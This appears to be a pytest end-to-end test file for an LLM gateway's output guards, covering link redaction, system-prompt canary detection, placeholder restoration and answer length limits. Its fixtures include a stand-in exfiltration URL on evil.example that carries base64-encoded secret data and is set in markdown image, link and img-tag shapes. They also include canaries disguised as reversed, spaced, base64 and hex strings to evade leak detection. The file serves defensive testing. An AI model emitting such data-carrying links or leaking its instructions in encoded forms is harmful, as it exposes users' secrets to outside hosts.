"""Output guards, by the unmodified SDKs, through a gateway and in process: links, canaries, placeholders, length."""

from __future__ import annotations

import base64
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx2
import openai
import pytest
from e2e_sdks import ERRORS, Seen, Way, body, call  # it lies beside this file
from e2e_world import Gateway, lines, rows  # it lies beside this file

from headgate import Gate
from headgate.testing.server import SimulatorServer

MARKER = "canary-" + "00112233445566778899"
DATA = base64.b64encode(b"the password is hunter2").decode()
EVIL = f"https://evil.example/p?d={DATA}"
SYSTEM = f"{MARKER} You are the assistant of the Acme canal company."
PLAIN = "An ordinary answer, with https://docs.acme.example/a?b=c in it, and nothing to find in all of its many words."
LEAD = "Of course, I will tell you all that I know about it, and with pleasure. "
OVERRIDES: dict[str, Any] = {
    "providers": {name: {"breaker": "off", "concurrency": "off"} for name in ("anthropic", "openai")},
    "guards": {"profile": "strict", "injection": "off", "floods": "off", "links": {"allow": ["*.acme.example"]}},
    "tasks": {
        "free": {"guards": {"profile": "off"}},
        "brief": {"guards": {"profile": "off", "answer_characters": 20}},
        "held": {"on_cut": "buffer"},
    },
    "log": {"bodies": "full"},
}


class World:
    """A simulator that says what it is told to, and both ways in."""

    def __init__(self, folder: Path, sim: SimulatorServer, gateway: Gateway, gate: Gate) -> None:
        self.sim = sim
        self.ways = {"gateway": Way(gateway.url), "in-process": Way(sim.url, gate)}
        self._kept = {"gateway": (folder / "gateway.db", gateway.built), "in-process": (folder / "own.db", gate.built)}

    def says(self, text: str, **pace: Any) -> None:
        self.sim.reset()
        rule = {"fault": {"kind": "says", "message": text}, "when": {"first": 1000}}
        self.sim.load(json.dumps({"name": "says", "rules": [rule], "pace": {"tokens_per_event": 1, **pace}}))

    def row(self, way: str, exchange: str) -> dict[str, Any]:
        path, built = self._kept[way]
        built.ledger.flush()
        return next(row for row in rows(path, "exchanges") if row["id"] == exchange)

    def line(self, way: str, exchange: str) -> dict[str, Any]:
        path, built = self._kept[way]
        built.log.flush()
        return next(line for line in lines(Path(f"{path}.log.jsonl")) if line.get("exchange_id") == exchange)


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    folder = tmp_path_factory.mktemp("guards")
    with SimulatorServer() as sim, Gateway(folder, sim.url, sim.openai_url, overrides=OVERRIDES) as gateway:
        env = {"ANTHROPIC_BASE_URL": sim.url, "OPENAI_BASE_URL": sim.openai_url}
        with Gate.load(env=env, storage=f"sqlite:///{folder / 'own.db'}", wait=lambda state: 0.0, **OVERRIDES) as gate:
            yield World(folder, sim, gateway, gate)


def ask(world: World, way: str, sdk: str, colour: str = "sync", *, stream: bool, task: str = "", **more: Any) -> Seen:
    told = body(sdk, more.pop("prompt", "hello"), stream=stream, **more)
    if sdk == "anthropic":
        told["system"] = SYSTEM
    else:
        told["messages"].insert(0, {"role": "system", "content": SYSTEM})
    if task:
        told["extra_headers"] = {"x-headgate-task": task}
    return call(world.ways[way], sdk, colour, told)


both_ways = pytest.mark.parametrize("way", ["gateway", "in-process"])
both_sdks = pytest.mark.parametrize("sdk", ["anthropic", "openai"])
streamed = pytest.mark.parametrize("stream", [False, True])


@both_ways
@both_sdks
@streamed
@pytest.mark.parametrize(
    ("shape", "colour"),
    [("![x]({})", "sync"), ("[click]({})", "async"), ('<img src="{}">', "sync"), ("see {} now", "async")],
)
def test_an_address_that_carries_data_out_never_reaches_the_caller(
    world: World, way: str, sdk: str, stream: bool, colour: str, shape: str
) -> None:
    world.says(f"{LEAD}{shape.format(EVIL)} That was it.")
    seen = ask(world, way, sdk, colour, stream=stream)
    assert seen.error is None
    assert DATA not in seen.text()
    assert "evil.example" not in seen.text()
    assert seen.text().startswith(LEAD)
    assert seen.text().endswith(" That was it.")
    line = world.line(way, seen.headers["x-headgate-exchange"])
    assert DATA not in json.dumps(line)
    assert any(word.startswith("links:") for word in line["guards"])
    if not stream:
        assert seen.headers["x-headgate-guard"].startswith("redact links:")


@both_ways
@both_sdks
@pytest.mark.parametrize(
    "form", [MARKER, MARKER[::-1], " ".join(MARKER), base64.b64encode(MARKER.encode()).decode(), MARKER.encode().hex()]
)
def test_a_canary_stops_a_stream_with_an_ending_that_the_sdk_takes(world: World, way: str, sdk: str, form: str) -> None:
    world.says(f"{LEAD}{form} and more")
    seen = ask(world, way, sdk, stream=True)
    assert seen.error is None
    assert form not in seen.text()
    assert LEAD.startswith(seen.text().rstrip()) or seen.text().startswith(LEAD)
    assert "more" not in seen.text()
    assert seen.stop() == {"anthropic": "refusal", "openai": "content_filter"}[sdk]
    exchange = seen.headers["x-headgate-exchange"]
    row, line = world.row(way, exchange), world.line(way, exchange)
    assert (row["ending"], line["error_type"], line["status_code"]) == ("refused", "content_blocked", 200)
    assert "leak:canary" in line["guards"] or "leak:encoded" in line["guards"]
    assert float(line["cost_usd"]) > 0


@both_ways
@both_sdks
@streamed
def test_where_nothing_has_left_yet_the_sdk_raises_its_own_error_for_a_refusal(
    world: World, way: str, sdk: str, stream: bool
) -> None:
    world.says(f"{MARKER} and more")
    seen = ask(world, way, sdk, stream=stream)
    assert isinstance(seen.error, ERRORS[sdk].BadRequestError)
    assert MARKER not in str(seen.error)
    assert "leak guard" in str(seen.error)
    assert seen.error.response.headers["x-should-retry"] == "false"


@both_ways
@both_sdks
def test_a_plain_stream_is_the_same_to_the_last_byte(world: World, way: str, sdk: str) -> None:
    world.says(PLAIN)
    if way == "gateway":
        url = f"{world.ways[way].url}/v1/" + ("messages" if sdk == "anthropic" else "chat/completions")
        told = body(sdk, "hello", stream=True)
        headers = {"anthropic-version": "2023-06-01"} if sdk == "anthropic" else {}
        watched, free = (
            httpx2.post(url, json=told, headers={**headers, "x-headgate-task": task}).content for task in ("", "free")
        )
        assert frames(watched) == frames(free)
    seen = ask(world, way, sdk, stream=True)
    assert seen.text() == PLAIN


def frames(stream: bytes) -> list[bytes]:
    """Without our last comment, and without what the simulator makes anew for every call."""
    found = []
    for frame in stream.split(b"\n\n"):
        if not frame.startswith(b": x-headgate"):
            _, _, data = frame.partition(b"data: ")
            told = json.loads(data) if data.startswith(b"{") else {}
            found.append(frame.replace(str(told.get("message", told).get("id")).encode(), b"ID"))
    return found


@both_ways
@both_sdks
def test_an_answer_ends_at_its_length(world: World, way: str, sdk: str) -> None:
    world.says(PLAIN)
    seen = ask(world, way, sdk, stream=True, task="brief")
    assert seen.error is None
    assert seen.text() == PLAIN[:20]


@both_ways
@both_sdks
@streamed
def test_what_was_taken_out_of_the_request_is_in_the_answer_again(
    world: World, way: str, sdk: str, stream: bool
) -> None:
    world.says("I have written to [EMAIL_1] about it, as you asked.")
    seen = ask(world, way, sdk, stream=stream, prompt="Write to ada.lovelace@engine.example.org about it.")
    assert seen.error is None
    assert seen.text() == "I have written to ada.lovelace@engine.example.org about it, as you asked."


@both_ways
def test_a_stream_that_is_held_back_is_watched_too(world: World, way: str) -> None:
    world.says(f"{LEAD}{MARKER} and more")
    seen = ask(world, way, "anthropic", stream=True, task="held")
    assert (seen.error, seen.stop()) == (None, "refusal")
    assert MARKER not in seen.text()


@both_ways
def test_a_stream_of_responses_is_cleaned_in_every_place_where_it_says_its_text(world: World, way: str) -> None:
    world.says(f"{LEAD}![x]({EVIL}) That was it.")
    chosen = world.ways[way]
    with chosen.http("sync") as http:
        client = chosen.client("openai", "sync", http)
        with client.responses.stream(model="gpt-6-luna", input="hello", instructions=SYSTEM) as stream:
            events = list(stream)
            answer = stream.get_final_response()
    assert answer.output_text == f"{LEAD}![x](about:blank) That was it."
    assert all(DATA not in repr(event) for event in events)


@both_ways
def test_a_stream_of_responses_that_is_stopped_is_incomplete(world: World, way: str) -> None:
    world.says(f"{LEAD}{MARKER} and more")
    chosen = world.ways[way]
    with chosen.http("sync") as http:
        client = chosen.client("openai", "sync", http)
        events = list(client.responses.create(model="gpt-6-luna", input="hello", instructions=SYSTEM, stream=True))
    last = events[-1]
    assert isinstance(last, openai.types.responses.ResponseIncompleteEvent)
    assert last.response.incomplete_details is not None
    assert last.response.incomplete_details.reason == "content_filter"
    assert all(MARKER not in item.model_dump_json() for item in last.response.output)
    assert LEAD.startswith(last.response.output_text.rstrip())


@both_ways
def test_an_answer_that_the_provider_keeps_is_watched_when_it_is_fetched(world: World, way: str) -> None:
    world.says(f"{LEAD}![x]({EVIL}) That was it.")
    chosen = world.ways[way]
    with chosen.http("sync") as http:
        client = chosen.client("openai", "sync", http)
        made = client.responses.create(model="gpt-6-luna", input="hello", store=True)
        fetched = client.responses.retrieve(made.id)
    assert made.output_text == fetched.output_text == f"{LEAD}![x](about:blank) That was it."
